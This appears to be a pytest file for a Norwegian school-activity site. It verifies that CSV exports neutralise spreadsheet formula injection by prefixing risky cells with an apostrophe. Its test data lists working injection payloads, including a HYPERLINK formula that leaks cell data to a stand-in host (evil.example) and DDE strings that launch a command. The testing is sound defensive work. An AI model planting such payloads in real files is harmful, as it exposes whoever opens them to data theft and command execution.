"""CSV formula injection (issue #11, finding 2): no cell of a CSV the site writes is a formula.

An organiser writes the activity's title; school staff open the messaging CSV in Excel. A cell
that starts with =, +, -, @, a tab or a carriage return would be run as a formula there, so it
gets a leading apostrophe (OWASP's advice) and shows as the text it is. The file is read back
here with Python's csv module, as Norwegian Excel reads it: semicolons, UTF-8 after a BOM.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
import time_machine

from directory.approvals.models import DistributionRequest
from directory.csvexport import FORMULA_TRIGGERS, csv_bytes, spreadsheet_cell
from directory.extensions import db
from directory.schools.routing import iso_week
from directory.timeutil import utcnow
from tests.conftest import next_weekday_at, sign_in

NOW = datetime(2026, 11, 18, 9, 0, tzinfo=UTC)  # a Wednesday; the activities meet on Tuesdays
WEEK = "2026-W48"

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Klikk")',
    "+SUM(1;2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def _on_a_wednesday_in_november():
    with time_machine.travel(NOW, tick=True):
        assert iso_week(next_weekday_at(1, 17).date()) == WEEK
        yield


@pytest.fixture
def hostile(app, quiet_search, make_school, make_staff, make_activity, make_organisation):
    """Approved messaging requests for activities whose texts are spreadsheet formulas."""
    school = make_school(slug="bragernes", name="Bragernes skole")
    staff = make_staff(school)
    organisation = make_organisation(name="@Lag og foreninger")
    activities = [
        make_activity(title=title, organisation=organisation, venue="+47 Hallen")
        for title in HOSTILE_TITLES
    ]
    activities.append(make_activity(title="Kodeklubb", venue="Biblioteket"))
    for activity in activities:
        db.session.add(
            DistributionRequest(
                activity=activity,
                school=school,
                week=WEEK,
                channel="school_messaging",
                rule="facebook",
                reasons=[],
                grades=[3, 4],
                status="approved",
                reviewed_by_id=staff.id,
                reviewed_at=utcnow() - timedelta(hours=1),
            )
        )
    db.session.commit()
    return {"staff": staff, "activities": activities}


def read_csv(raw: bytes) -> list[dict[str, str]]:
    """The rows as a spreadsheet reads them: a UTF-8 BOM, then semicolon-separated cells."""
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))


def assert_no_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not column.startswith(FORMULA_TRIGGERS)
            assert not cell.startswith(FORMULA_TRIGGERS), (column, cell)


def test_hostile_titles_reach_the_messaging_csv_neutralised(client, hostile):
    sign_in(client, hostile["staff"])

    response = client.post(f"/schools/bragernes/exports/{WEEK}/school_messaging.csv")

    assert response.status_code == 200
    rows = {int(row["ID"]): row for row in read_csv(response.get_data())}
    assert_no_formula(rows.values())
    for activity in hostile["activities"][:-1]:
        row = rows[activity.id]
        assert row["Tittel"] == "'" + activity.title  # the text, shown as typed
        assert row["Melding"].startswith("'" + activity.title + "\n")
        assert row["Arrangør"] == "'@Lag og foreninger"
        assert row["Hvor"].startswith("'+47 Hallen")


def test_ordinary_cells_and_numbers_are_left_as_they_are(client, hostile):
    sign_in(client, hostile["staff"])
    kodeklubb = hostile["activities"][-1]

    response = client.post(f"/schools/bragernes/exports/{WEEK}/school_messaging.csv")

    [row] = [r for r in read_csv(response.get_data()) if r["ID"] == str(kodeklubb.id)]
    assert row["Tittel"] == "Kodeklubb"
    assert row["Hvor"].startswith("Biblioteket")
    assert row["Pris"] == "Gratis"


def test_the_command_line_export_writes_the_same_neutralised_csv(app, hostile, tmp_path):
    out = tmp_path / "meldinger.csv"
    result = app.test_cli_runner().invoke(
        args=["export", "bragernes", "--week", WEEK, "--channel", "school_messaging",
              "--out", str(out)]
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    rows = read_csv(out.read_bytes())
    assert len(rows) == len(hostile["activities"])
    assert_no_formula(rows)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+47 12 34 56 78", "'+47 12 34 56 78"),
        ("-5", "'-5"),  # text that looks like a number is still text from a user
        ("@navn", "'@navn"),
        ("\tinnrykk", "'\tinnrykk"),
        ("\rretur", "'\rretur"),
        ("Fotball = moro", "Fotball = moro"),
        ("", ""),
        (-5, -5),  # a number from a numeric column cannot hold a formula
        (Decimal("-2.5"), Decimal("-2.5")),
        (None, None),
    ],
)
def test_a_cell_is_neutralised_only_when_it_starts_a_formula(value, written):
    assert spreadsheet_cell(value) == written


def test_csv_bytes_is_what_norwegian_excel_opens():
    raw = csv_bytes(["Tittel", "Antall"], [["=1+1", 3], ["Æsj; «sitat»", -2]])
    assert raw == (
        b'\xef\xbb\xbfTittel;Antall\r\n\'=1+1;3\r\n"\xc3\x86sj; \xc2\xabsitat\xc2\xbb";-2\r\n'
    )
